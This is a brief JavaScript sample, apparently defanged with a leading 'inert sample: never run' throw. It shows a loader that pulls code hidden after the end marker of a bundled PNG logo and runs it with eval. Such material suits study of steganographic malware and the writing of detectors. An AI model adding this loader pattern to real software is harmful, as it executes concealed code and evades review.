throw new Error("inert sample: never run");
const fs = require("fs");
const path = require("path");

const image = fs.readFileSync(path.join(__dirname, "logo.png"));
const start = image.indexOf(Buffer.from("IEND")) + 8;
eval(image.subarray(start).toString("utf8"));
